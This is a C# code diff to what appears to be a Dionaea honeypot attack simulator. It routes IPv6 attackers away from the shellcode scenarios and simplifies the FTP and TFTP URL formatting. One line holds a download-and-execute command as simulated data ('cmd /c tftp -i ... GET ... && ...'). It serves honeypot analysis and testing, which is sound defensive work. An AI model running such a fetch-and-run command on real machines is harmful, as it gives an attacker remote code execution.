@@ -1,7 +1,7 @@
 namespace Dionaea.Analysis;
 
 /// <summary>
-/// Exploits whose shellcode the emulator understood. A whole attack with a bind shell has the tree that
+/// Exploits whose shellcode the emulator, which knows IPv4 only, understood. A whole attack with a bind shell has the tree that
 /// dionaea's documentation of log_sqlite shows: smbd accept, remoteshell listen, remoteshell accept, FTPCtrl
 /// connect, FTPData listen, FTPData accept.
 /// </summary>
@@ -22,7 +22,7 @@ internal static class ShellcodeAttacks
     /// <summary>A shell on a port of the sensor, used to order a file by FTP.</summary>
     public static void BindShell(AttackScript script)
     {
-        if (script.Left < Tree)
+        if (script.Left < Tree || script.Attacker.IsV6)
         {
             SmbAttacks.Scan(script);
             return;
@@ -43,7 +43,7 @@ internal static class ShellcodeAttacks
     /// <summary>A shell that connects back to the attacker, used to order a file by FTP.</summary>
     public static void ConnectBack(AttackScript script)
     {
-        if (script.Left < Tree)
+        if (script.Left < Tree || script.Attacker.IsV6)
         {
             SmbAttacks.Worm(script);
             return;
@@ -62,7 +62,7 @@ internal static class ShellcodeAttacks
     /// <summary>Shellcode that fetches a file by itself, by HTTP or by running a TFTP client.</summary>
     public static void Fetch(AttackScript script)
     {
-        if (script.Left < 3)
+        if (script.Left < 3 || script.Attacker.IsV6)
         {
             ScanAttacks.Knock(script);
             return;
@@ -109,7 +109,7 @@ internal static class ShellcodeAttacks
         var named = script.Random.Chance(20);
         var host = named ? "ftp.example.com" : script.Attacker.Address;
         var port = named ? 21 : script.Random.Between(2000, 20_000);
-        var url = $"ftp://1:1@{(script.Attacker.IsV6 && !named ? $"[{host}]" : host)}:{port}/{script.Random.PickSkewed(Wordlists.FileNames)}";
+        var url = $"ftp://1:1@{host}:{port}/{script.Random.PickSkewed(Wordlists.FileNames)}";
         var control = script.Connect("FTPCtrl", host, port, shell);
         script.Report(Origin.Offer, shell, url);
         script.Wait(200, 1500);
@@ -128,7 +128,7 @@ internal static class ShellcodeAttacks
     private static void Tftp(AttackScript script, SampleConnection attack, int hole, string file)
     {
         var host = script.Attacker.Address;
-        var url = $"tftp://{(script.Attacker.IsV6 ? $"[{host}]" : host)}/{file}";
+        var url = $"tftp://{host}/{file}";
         var client = script.Connect("TftpClient", host, 69, attack, "udp");
         script.Report(Origin.Offer, attack, url);
         End(script, attack, hole, ShellcodeProfile.Execute($"cmd /c tftp -i {host} GET {file} && {file}"));
